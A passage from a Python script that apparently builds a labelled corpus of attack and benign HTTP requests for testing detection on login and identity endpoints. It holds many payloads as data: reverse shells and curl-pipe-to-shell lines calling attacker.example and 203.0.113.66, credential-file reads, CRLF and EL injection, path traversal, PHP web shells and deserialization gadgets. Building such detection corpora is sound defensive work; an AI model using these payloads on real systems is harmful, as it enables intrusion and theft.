                                 ("class.module.classLoader.resources.context.parent.pipeline.first.prefix", "tomcatwar")]), FORM, [["suffix", "%>//"], ["c1", "Runtime"], ["c2", "<%"]]),
        ("POST", "/register", form([("username", "eve"), ("email", "eve@evil.example"), ("password", "x"), ("name", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}")]), FORM, []),
    ]
    for m, uri, body, ct, extra in el:
        app = rng.choice(APP_HOSTS)
        c.add("java", "expression-language", m, uri, rng.choice(IDP_HOSTS) if "oauth" in uri else app, extra, body, ct)


def attack_crlf(c, rng):
    redirects = [
        "/login?next=%0d%0aSet-Cookie:%20sessionid=attacker-fixed-session",
        "/logout?redirect=%2F%0D%0ALocation:%20https://evil.example.net/",
        "/oauth/callback?code=abc&state=x&returnTo=/dashboard%0d%0aSet-Cookie:%20auth=1;%20Domain=.example.com",
        "/sso?RelayState=%0d%0aX-XSS-Protection:0%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E",
        "/authorize?response_type=code&client_id=web&redirect_uri=https://app.example.com/cb%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Chtml%3Epwned%3C/html%3E",
        "/lang?locale=en%0d%0aSet-Cookie:%20role=admin",
        "/login?return=%E5%98%8A%E5%98%8DSet-Cookie:%20x=y",
        "/logout?url=%0aLocation:%20//evil.example.net",
        "/signin?returnUrl=/home%0D%0ARefresh:%200;url=https://evil.example.net/",
        "/auth/saml/login?RelayState=https://app.example.com/%0d%0aLocation:%20https://evil.example.net%0d%0a",
        "/accounts/login/?next=/%0D%0ASet-Cookie:%20csrftoken=attacker;%20Path=/",
        "/oidc/logout?post_logout_redirect_uri=https://app.example.com/%0d%0a%0d%0a%3Chtml%3E%3Cbody%3Efake%20login%3C/body%3E%3C/html%3E",
        "/login?next=/%0ASet-Cookie:%20a=b",
        "/consent?return_to=/apps%0d%0aAccess-Control-Allow-Origin:%20https://evil.example.net%0d%0aAccess-Control-Allow-Credentials:%20true",
    ]
    for uri in redirects:
        c.add("crlf", "redirect-param", "GET", uri, rng.choice(APP_HOSTS + IDP_HOSTS[:3]))
    emails = [
        ("form", "email", "victim@example.com\r\nBcc: attacker@evil.example.net"),
        ("form", "email", "victim@example.com%0d%0aBcc:attacker@evil.example.net"),
        ("json", "email", "victim@example.com\r\nBcc: attacker@evil.example.net"),
        ("json", "email", "victim@example.com\nCc: attacker@evil.example.net\nSubject: Your reset link"),
        ("form", "name", "Jane\r\nSubject: Your account is locked\r\nContent-Type: text/html\r\n\r\n<a href=https://evil.example.net>unlock</a>"),
        ("json", "displayName", "Support Team\r\nReply-To: attacker@evil.example.net"),
        ("form", "email", "victim@example.com\nBcc: list@evil.example.net"),
        ("json", "to", "new.hire@example.com\r\nBcc: attacker@evil.example.net"),
        ("form", "email", "\"victim@example.com\r\nX-Mailer: evil\r\nBcc: attacker@evil.example.net\"@example.com"),
        ("jsonraw", "email", '{"email":"victim@example.com\\u000d\\u000aBcc:attacker@evil.example.net","locale":"en"}'),
        ("query", "email", "victim@example.com%0D%0ABcc:%20attacker@evil.example.net"),
        ("query", "username", "jdoe%0d%0aSet-Cookie:%20session=attacker"),
    ]
    for kind, field, val in emails:
        app = rng.choice(APP_HOSTS)
        path = rng.choice(["/password/forgot", "/api/password/forgot", "/api/invitations", "/account/email/change", "/magic-link"])
        if kind == "form":
            body = form([(field, val)]) if "%0" not in val else f"{field}={val}"
            c.add("crlf", "email-header", "POST", path, app, [origin(app)], body + "&_token=" + rtok(rng, 40), FORM)
        elif kind == "json":
            c.add("crlf", "email-header", "POST", path, rng.choice(API_HOSTS), [], jdump({field: val, "locale": "en"}), JSON)
        elif kind == "jsonraw":
            c.add("crlf", "email-header", "POST", path, rng.choice(API_HOSTS), [], val, JSON)
        else:
            c.add("crlf", "email-header", "GET", f"/password/forgot?{field}={val}", app)
    # headers built from identity values
    for val in ["jdoe\r\nX-Forwarded-User: admin", "en-US\r\nSet-Cookie: session=attacker"]:
        c.add("crlf", "header-value", "POST", "/api/session/locale", rng.choice(API_HOSTS), [], jdump({"user": val} if "jdoe" in val else {"locale": val}), JSON)


RCE_NAMES = ["jdoe;id", "$(curl -s http://attacker.example/p.sh|sh)", "`wget -qO- attacker.example/x|sh`", "x|nc attacker.example 4444 -e /bin/sh",
             "jdoe&&cat /etc/shadow", "jdoe\nid", "jdoe;cat${IFS}/etc/passwd", "a$(sleep 10)", "jdoe || ping -c 10 127.0.0.1",
             "jdoe'; bash -i >& /dev/tcp/203.0.113.66/4444 0>&1; echo '", "jdoe & net user hacker P@ssw0rd /add & ", "$(id>/tmp/pwn)",
             "jdoe;curl${IFS}attacker.example/s|bash", "jdoe`sleep 5`", "jdoe; powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\""]


def attack_rce(c, rng):
    for i, pl in enumerate(RCE_NAMES):
        k = i % 3
        if k == 0:
            u = {"schemas": ["urn:ietf:params:scim:schemas:core:2.0:User"], "userName": pl, "name": {"givenName": "J", "familyName": "Doe"}, "emails": [{"value": "jdoe@example.com", "primary": True}], "active": True}
            c.add("rce", "provisioning", "POST", "/scim/v2/Users", "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]], jdump(u), SCIM, browser=False, ua=rng.choice(["Okta SCIM Client 1.0.0", "python-requests/2.32.3"]))
        elif k == 1:
            app = rng.choice(APP_HOSTS)
            c.add("rce", "provisioning", "POST", "/register", app, [origin(app)], form([("username", pl), ("email", "eve@evil.example"), ("password", "Password1!"), ("password_confirmation", "Password1!")]), FORM)
        else:
            c.add("rce", "provisioning", "POST", "/admin/api/users", "admin.initech.example", [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]],
                  jdump({"login": pl, "createHome": True, "shell": "/bin/bash", "groups": ["staff"]}), JSON)
    posix = [("loginShell", "/bin/bash -c 'curl http://attacker.example/x | sh'"), ("homeDirectory", "/home/jdoe;rm -rf /"), ("gecos", "Jane;wget http://attacker.example/b -O /tmp/b;sh /tmp/b"),
             ("homeDirectory", "/home/$(id -u)"), ("loginShell", "/bin/sh\n/usr/bin/nc -e /bin/sh attacker.example 9001")]
    for attr, val in posix:
        c.add("rce", "provisioning", "PATCH", f"/scim/v2/Users/{ruuid(rng)}", "scim.acme-corp.com", [["Authorization", "Bearer " + rtok(rng, 40)]],
              jdump({"schemas": ["urn:ietf:params:scim:api:messages:2.0:PatchOp"], "Operations": [{"op": "replace", "path": f"urn:ietf:params:scim:schemas:extension:posix:2.0:User:{attr}", "value": val}]}), SCIM, browser=False)
    conn = ["ldap.example.com;id", "ldap.example.com`id`", "127.0.0.1 && powershell -nop -c \"IEX(New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
            "dc01.corp.contoso.com|cat /etc/passwd", "$(curl attacker.example/$(whoami))", "dc01;bash -c 'sh -i >& /dev/tcp/203.0.113.66/443 0>&1'"]
    for i, host_ in enumerate(conn):
        bearer = ["Authorization", "Bearer " + access_token(rng, "https://login.example.com/", scopes="admin")]
        if i % 2:
            c.add("rce", "admin-connection-test", "POST", "/admin/ldap/test-connection", "admin.initech.example", [bearer, origin("admin.initech.example")], form([("host", host_), ("port", "636"), ("bind_dn", "cn=svc,dc=example,dc=com")]), FORM)
        else:
            c.add("rce", "admin-connection-test", "POST", "/admin/realms/acme/testLDAPConnection", "keycloak.example.net", [bearer],
                  jdump({"action": "testConnection", "connectionUrl": f"ldap://{host_}", "bindDn": "cn=admin", "bindCredential": "x", "useTruststoreSpi": "always"}), JSON)
    pw = ["Passw0rd!'; /bin/bash -c 'bash -i >& /dev/tcp/203.0.113.66/4444 0>&1'; echo '", "x\"; curl http://attacker.example/$(cat /etc/hostname); echo \"",
          "New1!$(nc -e /bin/sh attacker.example 4444)", "pw`/usr/bin/id`", "abc123; cat /etc/shadow | nc attacker.example 9000", "secret|/bin/sh -i"]
    for p_ in pw:
        app = rng.choice(APP_HOSTS)
        c.add("rce", "password-hook", "POST", "/cgi-bin/passwd.cgi" if rng.random() < 0.5 else "/account/password", app, [origin(app)], form([("user", "jdoe"), ("oldpass", "x"), ("newpass", p_), ("newpass2", p_)]), FORM)
    keys = ["ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + rtok(rng, 43) + " jdoe@laptop\" && curl attacker.example|sh #",
            "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQ" + rtok(rng, 300) + " $(touch /tmp/pwned)"]
    for k_ in keys:
        c.add("rce", "ssh-key", "POST", "/api/v4/user/keys", "gitlab.example.com", [["PRIVATE-TOKEN", "glpat-" + rtok(rng, 20)]], jdump({"title": "laptop", "key": k_}), JSON, browser=False)


LFI = ["../../../../../../etc/passwd", "..%2F..%2F..%2F..%2Fetc%2Fpasswd%00", "....//....//....//etc/passwd", "/etc/passwd",
       "..\\..\\..\\..\\windows\\win.ini", "../../../../proc/self/environ", "..%252f..%252f..%252fetc%252fpasswd", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
       "..;/..;/..;/WEB-INF/web.xml", "../../../../../var/log/auth.log", "/..%c0%af../..%c0%af../etc/passwd", "..%5c..%5c..%5cboot.ini"]


def attack_lfi(c, rng):
    # avatar upload file names (writes) and avatar reads
    names = ["../../../../var/www/html/avatar.php", "..\\..\\..\\inetpub\\wwwroot\\shell.aspx", "....//....//....//etc/cron.d/evil", "../../../../root/.ssh/authorized_keys", "..%2f..%2f..%2fopt%2fapp%2fconfig.yml"]
    for i, fn in enumerate(names):
        bnd = "----WebKitFormBoundary" + rtok(rng, 16)
        body = (f"--{bnd}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{fn}\"\r\nContent-Type: image/svg+xml\r\n\r\n"
                f"<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"1\" height=\"1\"/>\r\n--{bnd}--\r\n")
        app = rng.choice(APP_HOSTS)
        if i % 2:
            c.add("lfi", "avatar-path", "PUT", "/api/me/avatar", rng.choice(API_HOSTS), [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]],
                  jdump({"filename": fn, "contentType": "image/png", "data": "data:image/png;base64,iVBORw0KGgo="}), JSON)
        else:
            c.add("lfi", "avatar-path", "POST", "/settings/avatar", app, [origin(app)], body, f"multipart/form-data; boundary={bnd}")
    for pl in LFI[:6]:
        app = rng.choice(APP_HOSTS)
        c.add("lfi", "avatar-path", "GET", rng.choice(["/avatars?file=", "/api/users/avatar?path=", "/profile/picture?name="]) + (pl if "%" in pl else light(pl)), app)
    # locale parameters used to pick a message bundle
    for i, pl in enumerate(LFI):
        idp = rng.choice(IDP_HOSTS)
        enc = pl if "%" in pl else light(pl)
        k = i % 4
        if k == 0:
            c.add("lfi", "locale", "GET", f"/authorize?response_type=code&client_id=web&scope=openid&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&ui_locales={enc}", idp)
        elif k == 1:
            c.add("lfi", "locale", "GET", f"/realms/acme/protocol/openid-connect/auth?client_id=portal&response_type=code&kc_locale={enc}", "keycloak.example.net")
        elif k == 2:
            c.add("lfi", "locale", "GET", f"/login?lang={enc}", rng.choice(APP_HOSTS), [["Cookie", f"lang={enc}"]] if rng.random() < 0.3 else [])
        else:
            c.add("lfi", "locale", "POST", "/api/me/preferences", rng.choice(API_HOSTS), [], jdump({"locale": urllib.parse.unquote(pl)}), JSON)
    # login page template and theme parameters
    tmpl = [("GET", "/login?theme=" + light("../../../../etc/passwd")), ("GET", "/login?template=..%2f..%2f..%2f..%2fproc%2fself%2fenviron"),
            ("GET", "/resources/x1y2z/login/keycloak/..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd"), ("GET", "/sso/page?name=" + light("....//....//....//etc/shadow")),
            ("GET", "/u/login?screen_hint=" + q("../../../../etc/hosts")), ("POST", "/api/v2/email-templates"), ("GET", "/static/..%2f..%2f..%2fWEB-INF/classes/application.properties"),
            ("GET", "/login?page=" + light("/etc/passwd"))]
    for m, uri in tmpl:
        if m == "POST":
            c.add("lfi", "template-param", m, uri, "acme.eu.auth0.com", [["Authorization", "Bearer " + access_token(rng, "https://login.example.com/")]], jdump({"template": "../../../../etc/passwd", "enabled": True}), JSON)
        else:
            c.add("lfi", "template-param", m, uri, rng.choice(APP_HOSTS + ["keycloak.example.net"]))


def attack_php_rfi_generic(c, rng):
    php_ser = ['O:8:"UserAuth":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}',
               'a:2:{i:7;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":1:{s:41:"\x00GuzzleHttp\\Cookie\\FileCookieJar\x00filename";s:23:"/var/www/html/shell.php";}i:0;i:1;}',
               'O:29:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";O:29:"Monolog\\Handler\\BufferHandler":7:{s:10:"\x00*\x00handler";r:2;s:13:"\x00*\x00bufferSize";i:-1;s:9:"\x00*\x00buffer";a:1:{i:0;a:2:{i:0;s:2:"id";s:5:"level";N;}}s:8:"\x00*\x00level";N;s:14:"\x00*\x00initialized";b:1;s:14:"\x00*\x00bufferLimit";i:-1;s:13:"\x00*\x00processors";a:2:{i:0;s:7:"current";i:1;s:6:"system";}}}',
               'O:21:"RememberMeToken":3:{s:4:"user";s:5:"admin";s:6:"expiry";i:9999999999;s:9:"signature";b:1;}']
    for i, s in enumerate(php_ser):
        app = rng.choice(APP_HOSTS)
        val = q(s) if i % 2 == 0 else b64(s.encode())
        c.add("php", "rememberme-cookie", "GET", "/account", app, [["Cookie", f"PHPSESSID={rtok(rng, 26, string.ascii_lowercase + string.digits)}; remember_me={val}"]])
    wrappers = ["php://filter/convert.base64-encode/resource=../config/database.php", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjbWQnXSk7Pz4=", "expect://id",
                "phar://uploads/avatars/1042.jpg/x", "php://input", "zip://uploads/avatars/evil.jpg%23shell.php"]
    for i, w in enumerate(wrappers):
        app = rng.choice(APP_HOSTS)
        if w == "php://input":
            c.add("php", "template-param", "POST", "/login.php?lang=php://input", app, [], "<?php system($_GET['c']); ?>", FORM)
        else:
            c.add("php", "template-param", "GET", rng.choice(["/login.php?lang=", "/index.php?option=com_users&view=login&layout=", "/auth/login?template="]) + light(w), app)
    for fn, content in [("shell.php", "GIF89a;<?php system($_GET['c']); ?>"), ("avatar.phtml", "<?php eval(base64_decode($_POST['x'])); ?>"), ("me.png.php", "<?=`$_GET[0]`?>")]:
        bnd = "----WebKitFormBoundary" + rtok(rng, 16)
        body = (f"--{bnd}\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"{fn}\"\r\nContent-Type: image/gif\r\n\r\n{content}\r\n"
                f"--{bnd}\r\nContent-Disposition: form-data; name=\"_token\"\r\n\r\n{rtok(rng, 40)}\r\n--{bnd}--\r\n")
        app = rng.choice(APP_HOSTS)
        c.add("php", "avatar-upload", "POST", "/profile/avatar", app, [origin(app)], body, f"multipart/form-data; boundary={bnd}")
    rfi = ["http://attacker.example/shell.txt?", "https://203.0.113.66/x.txt%00", "ftp://attacker.example/x.php", "\\\\attacker.example\\share\\x.php",
           "http://attacker.example/login.php?", "https://raw.attacker-labs.example/c99.txt?", "http://203.0.113.66:8000/r57.txt", "//attacker.example/inc.php?"]
    for i, u in enumerate(rfi):
        app = rng.choice(APP_HOSTS)
        c.add("rfi", "template-param", "GET", rng.choice(["/login.php?lang=", "/index.php?page=", "/auth/login?theme=", "/signup.php?tpl="]) + (u if "%" in u else light(u)), app)
    pp = [
        ("json", {"username": "eve", "password": "x", "__proto__": {"isAdmin": True}}),
        ("json", {"constructor": {"prototype": {"role": "admin"}}, "email": "eve@evil.example"}),
        ("query", "/api/me?__proto__[admin]=1"), ("query", "/register?constructor[prototype][isAdmin]=true"),
        ("json", {"profile": {"__proto__": {"emailVerified": True}}}), ("form", "username=eve&password=x&__proto__[role]=admin"),
        ("json", {"settings": {"constructor": {"prototype": {"mfaRequired": False}}}}), ("query", "/api/session?__proto__.isAdmin=true"),
    ]
    for kind, v in pp:
        app = rng.choice(APP_HOSTS)
        if kind == "json":
            c.add("generic", "prototype-pollution", "POST", rng.choice(["/api/register", "/api/me", "/api/login"]), rng.choice(API_HOSTS), [], jdump(v), JSON)
        elif kind == "form":
            c.add("generic", "prototype-pollution", "POST", "/login", app, [origin(app)], v, FORM)
        else:
            c.add("generic", "prototype-pollution", "GET", v, app)


def attacks_all():
    rng = random.Random(SEED + 1)
    c = Corpus(rng, "detect")
    attack_sqli(c, rng)
    attack_nosqli(c, rng)
    attack_ldapi(c, rng)
    attack_ssrf(c, rng)
    attack_xxe(c, rng)
    attack_xss(c, rng)
    attack_ssti(c, rng)
    attack_java(c, rng)
    attack_crlf(c, rng)
    attack_rce(c, rng)
    attack_lfi(c, rng)
    attack_php_rfi_generic(c, rng)
    return c.rows


# ---------------------------------------------------------------------------

def main(argv):
    if len(argv) != 2 or argv[1] not in ("attacks", "benign"):
        sys.stderr.write("\n\n".join(__doc__.split("\n\n")[1:3]) + "\n")
        return 2
    rows = attacks_all() if argv[1] == "attacks" else benign_all()
    out = sys.stdout
    for r in rows:
        out.write(json.dumps(r, ensure_ascii=False) + "\n")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
